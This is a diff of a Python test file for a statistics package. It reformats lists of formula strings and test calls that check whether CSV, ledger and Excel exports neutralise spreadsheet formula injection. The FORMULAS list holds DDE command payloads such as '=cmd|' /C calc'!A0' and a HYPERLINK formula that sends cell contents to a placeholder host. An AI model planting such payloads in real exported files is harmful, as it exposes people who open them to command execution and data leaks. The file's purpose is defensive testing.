@@ -20,14 +20,56 @@ from hhp_stats.studies.output import StudyOutput, _Tables
 from hhp_stats.synthetic.workbook import Sheet, workbook_bytes
 
 FORMULAS = (
-    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://example.invalid/?"&A1,"x")', "+1+1", "+cmd|'x'!A0", "-2+3+cmd|'x'!A0",
-    "-A1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0@x", "\uff1d1+1", "\uff0bA1", "\uff0d1", "\uff20x", "-0.35*A1",
-    "-1 to", "=", "@", "+", "--1", "-1-2",
-)  # fmt: skip
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.invalid/?"&A1,"x")',
+    "+1+1",
+    "+cmd|'x'!A0",
+    "-2+3+cmd|'x'!A0",
+    "-A1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0@x",
+    "\uff1d1+1",
+    "\uff0bA1",
+    "\uff0d1",
+    "\uff20x",
+    "-0.35*A1",
+    "-1 to",
+    "=",
+    "@",
+    "+",
+    "--1",
+    "-1-2",
+)
 HARMLESS = (
-    "", "-0.35", "-.5", "+0.2", "-1,218", "-12.5%", "-1e-05", "-0.35 to 0.10", "-0.35 (-0.60 to -0.10)", "-0.3 [-0.6, 0.1]", "-inf",
-    "-\u221e", "-", "--", "\u22120.35", "\u2014", "a=b", "1-2", "e@example.invalid", "'tis", "C001.1/2", "2019-11-04", "'",
-)  # fmt: skip
+    "",
+    "-0.35",
+    "-.5",
+    "+0.2",
+    "-1,218",
+    "-12.5%",
+    "-1e-05",
+    "-0.35 to 0.10",
+    "-0.35 (-0.60 to -0.10)",
+    "-0.3 [-0.6, 0.1]",
+    "-inf",
+    "-\u221e",
+    "-",
+    "--",
+    "\u22120.35",
+    "\u2014",
+    "a=b",
+    "1-2",
+    "e@example.invalid",
+    "'tis",
+    "C001.1/2",
+    "2019-11-04",
+    "'",
+)
 
 
 def unix(text):
@@ -54,10 +96,14 @@ def cells(text):
 
 
 def test_a_frame_comes_back_and_no_cell_of_it_runs():
-    frame = pd.DataFrame({
-        "=heading": [*FORMULAS, None], "number": [-0.35, np.nan, *np.arange(len(FORMULAS) - 1.0)],
-        "day": pd.Timestamp("2019-11-04"), "yes": True,
-    })  # fmt: skip
+    frame = pd.DataFrame(
+        {
+            "=heading": [*FORMULAS, None],
+            "number": [-0.35, np.nan, *np.arange(len(FORMULAS) - 1.0)],
+            "day": pd.Timestamp("2019-11-04"),
+            "yes": True,
+        }
+    )
     written = frame_to_csv(frame)
     assert not any(map(runs, cells(written)))
     back = frame_from_csv(pd.read_csv(io.StringIO(written, newline=""), dtype={"'=heading": "str"}))
@@ -105,9 +151,18 @@ def test_results_and_tables_of_a_study(tmp_path, formula):
 @pytest.mark.parametrize("formula", [text for text in FORMULAS if text[0] not in "\t\r\n \u00a0"])
 def test_ledger_and_index_of_a_bundle(tmp_path, formula):
     line = Correction(
-        id="C001", received_on="2020-05-31", study="goal_setting", wave="baseline", authority="Kent", staff_id="KEN-0009",
-        field="illness_days", old_value="-4", new_value=formula, reason=formula, requested_by=formula,
-    )  # fmt: skip
+        id="C001",
+        received_on="2020-05-31",
+        study="goal_setting",
+        wave="baseline",
+        authority="Kent",
+        staff_id="KEN-0009",
+        field="illness_days",
+        old_value="-4",
+        new_value=formula,
+        reason=formula,
+        requested_by=formula,
+    )
     append_lines(tmp_path / "corrections.csv", [line])
     with (tmp_path / "corrections.csv").open(encoding="utf-8", newline="") as file:
         _, row = csv.reader(file)
@@ -127,9 +182,14 @@ def test_workbooks(formula):
     saved = io.BytesIO()
     book.save(saved)
     made = workbook_bytes(
-        sheet=Sheet(name="Return", above=[["Local Authority:", formula]], headings=[formula], rows=[[formula], [-0.35]]),
-        title="t", subject="s", description="d", written=dt.date(2026, 1, 1),
-    )  # fmt: skip
+        sheet=Sheet(
+            name="Return", above=[["Local Authority:", formula]], headings=[formula], rows=[[formula], [-0.35]]
+        ),
+        title="t",
+        subject="s",
+        description="d",
+        written=dt.date(2026, 1, 1),
+    )
     for content in (saved.getvalue(), made):
         sheet = openpyxl.load_workbook(io.BytesIO(content)).active
         found = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
